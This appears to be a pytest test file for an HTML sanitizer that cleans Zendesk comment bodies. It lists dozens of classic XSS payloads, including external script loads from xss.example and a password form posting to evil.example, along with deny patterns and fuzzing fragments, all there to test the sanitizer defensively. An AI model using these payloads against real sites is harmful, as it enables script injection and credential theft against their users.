"""A Zendesk comment's ``html_body`` reaches the console only through an allow-list (docs/design.md §8)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mappings.html import attachment_token, is_zendesk_host, sanitize_comment_html

HOST = "acme.zendesk.com"
SHOT = "https://acme.zendesk.com/attachments/token/Tok3nAbc/?name=screenshot.png"
IMAGES = {SHOT: "a1b2", "Tok3nAbc": "a1b2"}


def clean(html: str) -> str:
    return sanitize_comment_html(html, inline_images=IMAGES, zendesk_host=HOST)


# What must never survive, whatever the input: elements that run code, style, frame or submit, and in any tag
# an event handler, a style, a script or data URL, or one of Zendesk's hosts or tokens.
_NEVER_ELEMENT = re.compile(
    r"<\s*/?\s*(script|style|iframe|frame|object|embed|form|input|button|svg|math|meta|link|base|textarea)\b",
    re.IGNORECASE,
)
_NEVER_IN_TAG = re.compile(
    r"\son[a-z]+\s*=|javascript:|vbscript:|data:|\sstyle\s*=|\sclass\s*=|\sid\s*=|zendesk\.com|zdusercontent"
    r"|zdassets|token|src=\"(?!attachment:)",
    re.IGNORECASE,
)
_TAGS = re.compile(r"""<(?:[^>"']|"[^"]*"|'[^']*')*>""")


def dangerous(out: str) -> list[str]:
    found = [m.group(0) for m in _NEVER_ELEMENT.finditer(out)]
    return found + [tag for tag in _TAGS.findall(out) if _NEVER_IN_TAG.search(tag)]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<svg/onload=alert("XSS")>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<p style="position:fixed;top:0">overlay</p>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9" AllowScriptAccess="always"></EMBED>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="  JAVASCRIPT:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="https://example.com" onclick="steal()">click</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="https://evil.example/track.png">',
    '<form action="https://evil.example/login"><input name="password"><button>Log in</button></form>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<p>unclosed <b>bold <i>italic <script>alert(1)",
    "<b><i></b></i><script>alert(1)</script>",
    "<div><div><div><div><script>alert(1)</script></div>",
    '<a href="https://acme.zendesk.com/agent/tickets/5">the ticket</a>',
    '<a href="https://other.zendesk.com/hc/requests/5">a request</a>',
    '<a href="/agent/tickets/5">relative</a>',
    '<img src="https://acme.zendesk.com/attachments/token/OtherTok/?name=theirs.png">',
    '<img src="https://p123.zdusercontent.com/attachment/1/abc?token=eyJhbGciOi">',
    '<a href="https://static.zdassets.com/x.js">asset</a>',
    '<a href="mailto:support@acme.zendesk.com">mail the desk</a>',
    '<div class="zd-comment" id="c1" dir="auto">text</div>',
    '<span style="color:red" data-x="1">text</span>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://docs.example.com" title="see https://acme.zendesk.com/agent">docs</a>',
    '<img src="https://acme.zendesk.com/attachments/token/Tok3nAbc/?name=s.png" alt="from acme.zendesk.com">',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_input_loses_everything_dangerous(html: str) -> None:
    out = clean(html)
    assert dangerous(out) == [], out
    if "<img" not in out:  # an image's src is the console's by then: only Zendesk's URLs are resolved
        assert clean(out) == out  # sanitizing is stable


@pytest.mark.parametrize(
    ("html", "shown"),
    [
        (
            '<div class="zd-comment" dir="auto"><p dir="auto">Run <code>kubectl get pods</code>:</p>'
            "<ol><li>first</li><li>second</li></ol></div>",
            "<p>Run <code>kubectl get pods</code>:</p><ol><li>first</li><li>second</li></ol>",
        ),
        (
            "<p><strong>bold</strong> <em>em</em> <u>u</u><br>next</p>",
            "<p><strong>bold</strong> <em>em</em> <u>u</u><br>next</p>",
        ),
        ("<pre><code>$ ls -l\n</code></pre>", "<pre><code>$ ls -l\n</code></pre>"),
        ("<blockquote><p>quoted</p></blockquote>", "<blockquote><p>quoted</p></blockquote>"),
        ("<h2>Title</h2><ul><li>a</li></ul>", "<h2>Title</h2><ul><li>a</li></ul>"),
        (
            '<table><tbody><tr><th>k</th><td colspan="2">v</td></tr></tbody></table>',
            '<table><tbody><tr><th>k</th><td colspan="2">v</td></tr></tbody></table>',
        ),
        (
            '<a href="https://docs.example.com/guide">docs</a>',
            '<a href="https://docs.example.com/guide" rel="noopener noreferrer nofollow">docs</a>',
        ),
        (
            '<a href="mailto:ops@example.com">mail</a>',
            '<a href="mailto:ops@example.com" rel="noopener noreferrer nofollow">mail</a>',
        ),
        (
            '<a href="https://acme.zendesk.com/agent/tickets/5">ticket 5</a>',
            '<a rel="noopener noreferrer nofollow">ticket 5</a>',
        ),
        (f'<p>See:</p><img src="{SHOT}" alt="screenshot">', '<p>See:</p><img src="attachment:a1b2" alt="screenshot">'),
        (
            '<img src="https://acme.zendesk.com/attachments/token/Tok3nAbc/?name=other.png">',
            '<img src="attachment:a1b2">',
        ),
        ('<img src="https://evil.example/x.png" alt="x"><p>after</p>', "<p>after</p>"),
        ("<script>alert(1)</script><p>kept</p>", "<p>kept</p>"),
        ("<form><p>inside a form</p></form>", "<p>inside a form</p>"),
        ("<p>a &lt;script&gt; as text</p>", "<p>a &lt;script&gt; as text</p>"),
    ],
)
def test_what_staff_wrote_is_kept(html: str, shown: str) -> None:
    assert clean(html) == shown


def test_without_inline_images_no_image_is_kept() -> None:
    assert sanitize_comment_html(f'<img src="{SHOT}"><p>x</p>') == "<p>x</p>"


@pytest.mark.parametrize(
    ("host", "zendesk"),
    [
        ("acme.zendesk.com", True),
        ("ACME.ZENDESK.COM:443", True),
        ("p1.zdusercontent.com", True),
        ("desk.acme.example", True),
        ("example.com", False),
        ("zendesk.com.evil.example", False),
    ],
)
def test_zendesk_hosts(host: str, zendesk: bool) -> None:
    assert is_zendesk_host(host, "desk.acme.example") is zendesk


def test_attachment_tokens_are_read_from_zendesk_urls() -> None:
    assert attachment_token(SHOT) == "Tok3nAbc"
    assert attachment_token("https://example.com/image.png") is None


_fragments = st.sampled_from(
    ["<p>", "</p>", "<script>", "</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:x">', "</a>",
     "<style>", "<b>", "</b>", "text", "<", ">", '"', "'", "onload=", "<iframe>", "<!--", "-->", "<svg>",
     '<a href="https://acme.zendesk.com/x">', "<pre>", "</pre>", "&", "&#106;avascript:", "<form>"]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(_fragments, max_size=20).map("".join))
def test_any_mix_of_fragments_comes_out_clean(html: str) -> None:
    out = clean(html)
    assert dangerous(out) == [], out
